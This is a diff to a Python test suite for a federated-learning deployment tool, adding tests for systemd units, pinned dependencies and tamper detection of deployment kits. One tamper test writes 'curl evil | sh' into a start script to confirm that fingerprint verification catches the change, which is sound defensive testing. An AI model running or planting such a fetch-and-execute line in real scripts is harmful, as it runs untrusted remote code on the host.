@@ -711,7 +711,7 @@ def _mtls_server(cert: Path, key: Path, ca: Path, seen: list[str]) -> int:
 
     def serve() -> None:
         with sock:
-            for _ in range(2):
+            for _ in range(4):
                 try:
                     conn, _ = sock.accept()
                 except OSError:
@@ -720,7 +720,13 @@ def _mtls_server(cert: Path, key: Path, ca: Path, seen: list[str]) -> int:
                     with ctx.wrap_socket(conn, server_side=True) as tls:
                         subject = dict(x[0] for x in tls.getpeercert()["subject"])
                         seen.append(subject["commonName"])
-                        tls.recv(65536)
+                        data = b""
+                        while b"\r\n\r\n" not in data:  # read the whole request before
+                            data += tls.recv(65536)       # answering (no RST on close)
+                        head, _, body = data.partition(b"\r\n\r\n")
+                        length = int(re.search(rb"(?i)content-length: *(\d+)", head).group(1))
+                        while len(body) < length:
+                            body += tls.recv(65536)
                         tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/protobuf\r\n"
                                     b"Content-Length: 0\r\nConnection: close\r\n\r\n")
                 except (ssl.SSLError, OSError):
@@ -767,3 +773,79 @@ def _launcher_checks(FleetHttpClient, supernode, site, port, seen, monkeypatch):
         supernode.install_client_certificate(site / "client.pem", site / "keys/tls-client.key")
     monkeypatch.delenv(supernode.CERT_ENV, raising=False)
     assert supernode.main(["--superlink", "127.0.0.1:1"]) == 2
+
+
+# ---- operable by a hospital's IT: units, versions, kit transfer -----------------------------
+def test_systemd_units_outlast_flowers_lockout_and_kill_the_whole_group(tmp_path):
+    import configparser
+
+    _, kits = make(tmp_path)
+    units = [kits / "coordinator/systemd/fedmeta-superlink.service",
+             kits / "coordinator/systemd/fedmeta-proxy.service",
+             kits / "sites/site-de-01/systemd/fedmeta-node.service",
+             tmp_path / "state/site-de-01/systemd/fedmeta-node.service"]
+    for path in units:
+        unit = configparser.ConfigParser(interpolation=None, strict=False)
+        unit.read_string(path.read_text())
+        service = unit["Service"]
+        assert int(service["RestartSec"]) > 60, path  # Flower's error-2004 lockout is ~60 s
+        assert service["KillMode"] == "control-group" and service["Restart"] == "on-failure"
+        assert unit["Unit"]["StartLimitIntervalSec"] == "0"
+        script = service["ExecStart"].removeprefix("@DIR@/")
+        assert (path.parent.parent / script).exists(), path
+    import shutil
+
+    if shutil.which("systemd-analyze"):
+        filled = tmp_path / "fedmeta-node.service"
+        filled.write_text(units[2].read_text().replace("@DIR@", str(tmp_path)).replace(
+            "@VENV@", sys.prefix).replace("@USER@", "root"))
+        res = subprocess.run(["systemd-analyze", "verify", str(filled)], capture_output=True,
+                             text=True, timeout=60)
+        assert "RestartSec" not in res.stderr and "KillMode" not in res.stderr, res.stderr
+
+
+def test_constraints_pin_the_installed_release(tmp_path):
+    from importlib import metadata
+
+    _, kits = make(tmp_path)
+    text = (kits / "sites/site-de-01/constraints.txt").read_text()
+    assert text == (kits / "coordinator/constraints.txt").read_text()
+    pins = dict(line.split("==") for line in text.splitlines() if not line.startswith("#"))
+    for dist in ("fedmeta", "flwr", "opacus", "torch", "numpy", "cryptography", "pydantic"):
+        assert pins[dist] == metadata.version(dist).split("+")[0], dist
+    assert "httpx" in pins  # transitive (Flower's), not only fedmeta's own requirements
+    assert not [k for k in pins if k in ("pytest", "hypothesis", "ruff")]  # no dev extras
+
+
+def test_kit_fingerprint_detects_any_change(tmp_path):
+    from fedmeta.deploy.kits import ProvisionError, verify_kit
+
+    fed = tmp_path / "federation.toml"
+    fed.write_text(FED)
+    kits = tmp_path / "kits"
+    report = provision(fed, kits)
+    prints = dict(line.split() for line in (kits / "fingerprints.txt").read_text().splitlines())
+    assert prints == report.fingerprints and set(prints) == {"coordinator", "site-de-01",
+                                                              "site-in-01"}
+    kit = kits / "sites/site-de-01"
+    verify_kit(kit, prints["site-de-01"])
+    assert init_site(tmp_path / "s", kit, fingerprint=prints["site-de-01"]).request
+    with pytest.raises(ProvisionError, match="fingerprint"):
+        verify_kit(kit, prints["site-in-01"])  # another kit
+    script = kit / "start-node.sh"
+    original = script.read_bytes()
+    script.write_bytes(original.replace(b"exec fedmeta", b"curl evil | sh; exec fedmeta"))
+    with pytest.raises(ProvisionError, match="start-node.sh: missing or altered"):
+        verify_kit(kit, prints["site-de-01"])
+    script.write_bytes(original)
+    (kit / "extra.sh").write_text("echo\n")
+    with pytest.raises(ProvisionError, match="extra.sh: not part of the kit"):
+        verify_kit(kit, prints["site-de-01"])
+    res = CliRunner().invoke(app, ["node", "init", str(tmp_path / "t"), "--kit", str(kit),
+                                   "--fingerprint", prints["site-de-01"]])
+    assert res.exit_code == 2 and "not part of the kit" in res.output
+    assert not (tmp_path / "t").exists()  # refused before anything was laid out
+    # the coordinator kit running in place (state/) keeps its fingerprint
+    (kits / "coordinator/state").mkdir()
+    (kits / "coordinator/state/superlink.db").write_bytes(b"x")
+    verify_kit(kits / "coordinator", prints["coordinator"])
